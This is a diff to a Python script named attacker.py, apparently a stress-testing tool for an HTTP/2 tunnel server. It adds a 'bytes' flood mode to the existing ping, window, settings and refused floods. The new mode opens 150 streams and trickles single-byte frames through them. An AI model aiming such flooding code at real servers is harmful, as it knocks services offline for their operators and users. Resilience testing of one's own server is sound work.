@@ -8,8 +8,8 @@ attacker.py trip ADDRESS PORT SECONDS             round trips on one connection:
 attacker.py streams ADDRESS TUNNELS STREAMS SECONDS IDENTITY AUTHORITY
                                                   authenticated tunnels full of stalled streams
 attacker.py flood KIND ADDRESS SECONDS IDENTITY AUTHORITY
-                                                  KIND ping, window, settings or refused: frames
-                                                  without an end in tunnels of one caller
+                                                  KIND ping, window, settings, refused or bytes:
+                                                  frames without an end in tunnels of one caller
 
 IDENTITY is a directory with tls.crt and tls.key. Every loop ends after SECONDS.
 """
@@ -170,7 +170,12 @@ def flood(kind, address, seconds, identity, authority):
         made, stream = made + 1, 1
         try:
             while time.monotonic() < until:
-                if kind == "refused":
+                if kind == "bytes":
+                    # A byte for one stream, then one for the next: what a tunnel is for, if a small part of it.
+                    if stream == 1:
+                        one.sendall(b"".join(connect_request(1 + 2 * n, authority) for n in range(150)))
+                        stream, burst = 3, b"".join(frame(0, 0, 1 + 2 * n, b"S") for n in range(150))
+                elif kind == "refused":
                     burst = b"".join(connect_request(stream + 2 * n, authority) for n in range(BURST))
                     stream += 2 * BURST
                 else:
@@ -178,7 +183,7 @@ def flood(kind, address, seconds, identity, authority):
                             "settings": frame(4, 1, 0)}[kind]
                     burst = what * BURST
                 one.sendall(burst)
-                sent += BURST
+                sent += 150 if kind == "bytes" else BURST
                 # What it answers is read, so that it can go on answering.
                 while select.select([one], [], [], 0)[0] or one.pending():
                     if not one.recv(65536):
